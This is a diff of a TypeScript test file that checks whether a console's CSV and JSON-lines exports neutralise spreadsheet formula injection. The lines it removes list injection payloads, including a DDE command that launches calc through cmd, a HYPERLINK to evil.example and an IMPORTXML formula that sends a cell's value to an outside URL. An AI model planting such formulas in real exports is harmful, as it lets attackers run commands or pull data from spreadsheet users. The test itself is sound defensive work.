@@ -9,6 +9,7 @@ import type { RecordDetail } from '#contract/records.ts'
 import { createExports, type Exports } from '#core/exports/exports.ts'
 import { openHistory, type OpenHistory } from '#core/history/open.ts'
 import { launchInNode } from '#core/workers/node.ts'
+import { linesOf, payloads, wouldRun, writeEverywhere } from '../../scripts/prove/formulas.ts'
 import { answer, clock, intentOf, lost, secretsInMemory } from './history-fixtures.ts'
 
 const exportId = '00000000-0000-4000-8000-0000000000ee'
@@ -44,27 +45,27 @@ async function check(applicant: string, message?: string): Promise<string> {
   return begun.value.id
 }
 const rowsOf = (file: string): Record<string, string>[] => parse(readFileSync(file), { columns: true, bom: true }) as Record<string, string>[]
-const linesOf = <T = Record<string, unknown>>(file: string): T[] => readFileSync(file, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as T)
 
-const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uff1d', '\uff0b', '\uff0d', '\uff20']
-const tails = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example","x")', 'SUM(A1:A9)', '"quoted", and more', 'IMPORTXML(CONCAT("http://x/",A1),"//a")', 'a\r\n=b']
-const payloads = signs.flatMap((sign) => tails.map((tail) => sign + tail))
+test('no CSV file of the console holds a cell that a spreadsheet would run, and every text is whole in JSON', async () => {
+  expect(new Set(payloads).size).toBe(300)
+  expect(payloads.filter(wouldRun).length).toBeGreaterThan(260)
+  const written = await writeEverywhere()
+  expect(written.flatMap(({ faults }) => faults)).toEqual([])
+  expect(written.map(({ file }) => file)).toEqual([
+    'batch, results (CSV)', 'batch, failed (CSV)', 'batch, unknown (CSV)', 'batch, faulty (CSV)', 'batch, lossless (JSON lines)',
+    'history (CSV)', 'applicants (CSV)', 'history (JSON lines)', 'applicants (JSON lines)'
+  ])
+  for (const { file, attacked } of written) expect(attacked, file).toBeGreaterThan(30)
+})
 
 describe('the history', () => {
-  test('holds no cell that a spreadsheet would run, and every text whole in JSON', async () => {
-    for (const payload of payloads) await check('APP-1', payload)
-    const csv = await exports.history({ exportId, filter: {}, format: 'csv' })
-    expect(csv).toMatchObject({ ok: true, value: { rows: payloads.length } })
-    const text = readFileSync(path!, 'utf8')
-    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat()
-    expect(cells.filter((cell) => /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell))).toEqual([])
-    const messages = rowsOf(path!).slice(0, -1).map((row) => row['message'])
-    expect(messages).toEqual(payloads.map((payload) => `'${payload}`))
+  test('is marked where a spreadsheet would run it, and nowhere else; a record is exported as it is shown', async () => {
+    for (const message of ['=1+1', 'plain', '  @x']) await check('APP-1', message)
+    await exports.history({ exportId, filter: {}, format: 'csv' })
+    expect(rowsOf(path!).slice(0, -1).map((row) => row['message'])).toEqual([`'=1+1`, 'plain', `'  @x`])
     path = join(folder, 'out.jsonl')
     await exports.history({ exportId, filter: {}, format: 'jsonl' })
-    const records = linesOf<RecordDetail>(path).slice(1, -1)
-    expect(records.map(({ fullMessage }) => fullMessage)).toEqual(payloads)
-    for (const record of records) expect(record).toEqual(JSON.parse(JSON.stringify({ ...(await whole(record.id)), previous: undefined })))
+    for (const record of linesOf<RecordDetail>(path).slice(1, -1)) expect(record).toEqual(JSON.parse(JSON.stringify({ ...(await whole(record.id)), previous: undefined })))
   })
 
   async function whole(id: string): Promise<RecordDetail> {
